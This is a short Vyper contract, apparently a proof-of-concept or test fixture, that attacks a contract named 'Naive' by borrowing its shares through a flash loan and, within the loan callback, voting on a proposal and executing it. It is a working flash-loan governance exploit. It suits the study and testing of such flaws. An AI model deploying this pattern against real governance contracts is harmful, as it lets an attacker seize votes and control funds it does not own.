# pragma version 0.4.3
# pragma evm-version prague
# SPDX-License-Identifier: Apache-2.0
"""
@title Borrower: votes with shares that it holds for one call
"""
interface Naive:
    def vote(id: uint256, support: bool): nonpayable
    def execute(id: uint256): nonpayable
    def flash(amount: uint256, whose: address): nonpayable

naive: Naive
id: uint256


@external
def attack(naive: address, id: uint256, amount: uint256, whose: address):
    self.naive = Naive(naive)
    self.id = id
    extcall Naive(naive).flash(amount, whose)


@external
def on_loan(amount: uint256):
    extcall self.naive.vote(self.id, True)
    extcall self.naive.execute(self.id)
